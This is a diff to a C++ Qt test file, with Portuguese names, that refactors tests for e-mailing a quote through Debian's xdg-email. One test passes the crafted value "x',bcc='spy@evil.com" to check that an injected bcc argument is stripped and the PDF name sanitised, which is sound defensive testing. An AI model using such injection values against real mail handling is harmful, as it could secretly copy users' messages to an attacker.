@@ -335,22 +335,15 @@ private slots:
     void enderecosComOXdgEmailDoDebian() {
         QFETCH(QString, email);
         QFETCH(bool, aceito);
-        QVERIFY2(QFileInfo(u"/usr/bin/xdg-email"_s).isExecutable(), "falta o pacote xdg-utils");
         const double numero = NovoOrcamento();
         Banco::Executar(u"UPDATE Clientes SET Email = ? WHERE CodigoDoCliente = 1"_s, {email});
-        const QByteArray caminhos = qgetenv("PATH");
-        qputenv("PATH", "/usr/bin:/bin");
         qputenv("MAILER", mprogramas.filePath(u"programa-de-email"_s).toUtf8());
-        qputenv("XDG_CURRENT_DESKTOP", "");
-        ImprimirFichaDoHost(numero,
-                            [&](VisualizacaoDoRelatorio* previa) { Clicar(previa, "cmdEnviarPorEmail"); });
+        EnviarPorEmailComOXdgEmailDoDebian(numero);
         // The mail program does not start a message: nothing is recorded.
         if (aceito) {
             qputenv("ZELT_TESTE_SAIDA", "1");
-            ImprimirFichaDoHost(
-                numero, [&](VisualizacaoDoRelatorio* previa) { Clicar(previa, "cmdEnviarPorEmail"); });
+            EnviarPorEmailComOXdgEmailDoDebian(numero);
         }
-        qputenv("PATH", caminhos);
         qunsetenv("MAILER");
         const QList<Chamada> chamadas = Chamadas();
         if (!aceito) {
@@ -389,15 +382,7 @@ private slots:
         QVERIFY(BancoDeTeste::EscreverArquivo(
             mcasa.filePath(u".config/mimeapps.list"_s),
             "[Default Applications]\nx-scheme-handler/mailto=thunderbird.desktop\n"));
-        const QByteArray caminhos = qgetenv("PATH");
-        qputenv("PATH", "/usr/bin:/bin");
-        qputenv("XDG_CURRENT_DESKTOP", "");
-        macaoNaPrevia = [&](VisualizacaoDoRelatorio* previa) { Clicar(previa, "cmdEnviarPorEmail"); };
-        const qint16 impressao = ::ImprimirFichaDoHost(numero, u"x',bcc='spy@evil.com"_s, u"João da Silva"_s,
-                                                       Currency::DeInteiro(120), Currency::DeInteiro(10),
-                                                       Currency::DeInteiro(12), Currency::DeInteiro(108));
-        qputenv("PATH", caminhos);
-        QCOMPARE(impressao, qint16(0));
+        EnviarPorEmailComOXdgEmailDoDebian(numero, u"x',bcc='spy@evil.com"_s);
         const QString pdf = PastaDosOrcamentos() + u"/Orçamento "_s + QString::number(numero) +
                             u" - x--bcc=-spy@evil.com.pdf"_s;
         const QList<Chamada> chamadas = Chamadas();
@@ -410,7 +395,6 @@ private slots:
                      !campos.contains(u"bcc='"_s),
                  qPrintable(campos));
         QVERIFY(QFile::exists(pdf));
-        QCOMPARE(Envios().size(), 1);
     }
 
     // A name that passes the file system's 255 bytes is cut before ".pdf", between two
@@ -427,11 +411,9 @@ private slots:
         QFETCH(QString, unidade);
         QFETCH(int, vezes);
         const double numero = NovoOrcamento();
-        macaoNaPrevia = [&](VisualizacaoDoRelatorio* previa) { Clicar(previa, "cmdEnviarPorEmail"); };
-        QCOMPARE(::ImprimirFichaDoHost(numero, unidade.repeated(vezes), u"João da Silva"_s,
-                                       Currency::DeInteiro(120), Currency::DeInteiro(10),
-                                       Currency::DeInteiro(12), Currency::DeInteiro(108)),
-                 qint16(0));
+        ImprimirFichaDoHost(
+            numero, [&](VisualizacaoDoRelatorio* previa) { Clicar(previa, "cmdEnviarPorEmail"); },
+            unidade.repeated(vezes));
         const QString inicio = u"Orçamento "_s + QString::number(numero) + u" - "_s;
         const qsizetype cabem = (255 - inicio.toUtf8().size() - 4) / unidade.toUtf8().size();
         const QString nome = inicio + unidade.repeated(cabem) + u".pdf"_s;
@@ -480,12 +462,25 @@ protected:
 
 private:
     // Prints the sheet as a record form opened by the host does; in its preview, acao runs.
-    void ImprimirFichaDoHost(double numero, const std::function<void(VisualizacaoDoRelatorio*)>& acao) {
+    void ImprimirFichaDoHost(double numero, const std::function<void(VisualizacaoDoRelatorio*)>& acao,
+                             const QString& apelido = u"João"_s) {
         macaoNaPrevia = acao;
-        QCOMPARE(::ImprimirFichaDoHost(numero, u"João"_s, u"João da Silva"_s, Currency::DeInteiro(120),
+        QCOMPARE(::ImprimirFichaDoHost(numero, apelido, u"João da Silva"_s, Currency::DeInteiro(120),
                                        Currency::DeInteiro(10), Currency::DeInteiro(12),
                                        Currency::DeInteiro(108)),
                  qint16(0));
+    }
+
+    // Sends the quote by e-mail through Debian's own xdg-email (xdg-utils) on a desktop it
+    // does not know, with only the system's programs on PATH.
+    void EnviarPorEmailComOXdgEmailDoDebian(double numero, const QString& apelido = u"João"_s) {
+        QVERIFY2(QFileInfo(u"/usr/bin/xdg-email"_s).isExecutable(), "falta o pacote xdg-utils");
+        const QByteArray caminhos = qgetenv("PATH");
+        qputenv("PATH", "/usr/bin:/bin");
+        qputenv("XDG_CURRENT_DESKTOP", "");
+        ImprimirFichaDoHost(
+            numero, [&](VisualizacaoDoRelatorio* previa) { Clicar(previa, "cmdEnviarPorEmail"); }, apelido);
+        qputenv("PATH", caminhos);
     }
 
     void Clicar(VisualizacaoDoRelatorio* previa, const char* comando) {
